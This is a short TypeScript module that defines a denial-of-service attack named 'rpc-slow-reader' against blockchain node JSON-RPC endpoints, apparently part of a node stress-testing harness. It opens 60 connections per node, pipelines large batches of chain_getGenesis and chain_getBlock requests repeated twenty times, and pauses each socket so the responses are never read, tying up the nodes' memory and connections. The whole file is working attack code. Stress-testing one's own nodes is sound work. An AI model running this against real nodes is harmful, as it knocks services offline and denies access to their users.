import type { Attack } from '../attack.ts';
import { headOf, keepSockets, onEach } from '../http.ts';

const CONNECTIONS = 60;
const CALL = '{"jsonrpc":"2.0","id":1,"method":"chain_getGenesis"}';
const BATCH = `[${Array(100).fill(CALL).join(',')}]`;
const BLOCKS = `[${Array.from({ length: 100 }, (_, i) => `{"jsonrpc":"2.0","id":${i},"method":"chain_getBlock","params":{"height":${1 + (i % 50)}}}`).join(',')}]`;

export const attack: Attack = {
  name: 'rpc-slow-reader',
  what: `${CONNECTIONS} clients of each node ask for long answers, many on one connection, and do not read them.`,
  run: ({ targets }, signal) =>
    onEach(targets, (target) =>
      keepSockets(
        target,
        CONNECTIONS,
        async (socket) => {
          socket.pause();
          const requests = [BATCH, BLOCKS].map((body) => `${headOf(body.length)}${body}`).join('');
          const all = requests.repeat(20);
          socket.write(all);
          return all.length;
        },
        signal,
      ),
    ),
};
